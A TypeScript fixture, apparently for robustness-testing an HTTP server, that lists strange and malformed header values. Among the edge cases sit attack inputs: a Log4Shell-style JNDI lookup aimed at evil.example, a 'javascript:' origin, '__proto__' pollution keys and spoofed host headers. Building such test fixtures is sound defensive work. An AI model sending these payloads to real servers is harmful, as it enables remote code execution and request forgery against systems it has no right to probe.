type Header = readonly [name: string, value: string]

const each = (name: string, ...values: readonly string[]): Header[] => values.map((value) => [name, value])

/** Headers that a server may trip over. What breaks the framing of a request is tried on raw sockets (`broken/`). */
export const strangeHeaders: readonly Header[] = [
  ...each('Cookie', 'acct_session=', 'acct_session', '=', ';;;', 'acct_session="', 'acct_session=%', 'acct_session=%00', `acct_session=${'A'.repeat(7000)}`, '__Host-acct_session=x; acct_session=y', 'acct_session=a; acct_session=b', '\xff=\xfe', '__proto__=x; constructor=y'),
  ...each('Authorization', 'Bearer', 'Bearer ', 'Bearer  x', 'bearer acct_s_', 'Basic YTpi', 'Digest', `Bearer ${'A'.repeat(7000)}`, 'Bearer \xff\xfe', 'Bearer a b', ''),
  ...each('Origin', 'null', '', 'https://evil.example', 'http://', 'http://localhost', 'javascript:alert(1)', '\xff'),
  ...each('Sec-Fetch-Site', 'cross-site', 'same-site', 'same-origin', 'none', 'nonsense', ''),
  ...each('Sec-Purpose', 'prefetch', 'prefetch;prerender'),
  ...each('Purpose', 'prefetch', 'preview'),
  ...each('X-Forwarded-For', '', 'unknown', '::1', 'fe80::1%eth0', '1.2.3.4:80', '[2001:db8::1]:80', '999.1.1.1', '1.1.1.1, ,2.2.2.2', `${'1.1.1.1,'.repeat(500)}1.1.1.1`, '::ffff:1.2.3.4', '2001:db8::', '__proto__', '\xff'),
  ...each('X-Forwarded-Host', 'evil.example'),
  ...each('X-Forwarded-Proto', 'https', 'gopher'),
  ...each('Forwarded', 'for=1.2.3.4;host=evil.example'),
  ...each('Host', 'evil.example', 'localhost:1', '[::1]', 'a b', '', 'LOCALHOST', '127.0.0.1:99999', 'x'.repeat(3000)),
  ...each('Content-Encoding', 'gzip', 'identity', 'br, gzip'),
  ...each('Accept', 'text/html', '*/*;q=0', ''),
  ...each('Accept-Encoding', 'gzip', '*;q=0'),
  ...each('Accept-Version', '2.x', '1.0.0'),
  ...each('X-HTTP-Method-Override', 'DELETE', 'GET'),
  ...each('Range', 'bytes=0-0', 'bytes=-1'),
  ...each('If-None-Match', '*'),
  ...each('If-Modified-Since', 'Thu, 01 Jan 1970 00:00:00 GMT'),
  ...each('Connection', 'close', 'keep-alive', 'keep-alive, X-Forwarded-For', 'nonsense'),
  ...each('Keep-Alive', 'timeout=0', 'timeout=99999999999'),
  ...each('Access-Control-Request-Method', 'POST'),
  ...each('Max-Forwards', '0'),
  ...each('X-Request-Id', '__proto__', 'x'.repeat(4000)),
  ...each('Referer', 'https://evil.example/', '\xff'),
  ...each('User-Agent', '', '${jndi:ldap://evil.example}', 'x'.repeat(4000)),
]
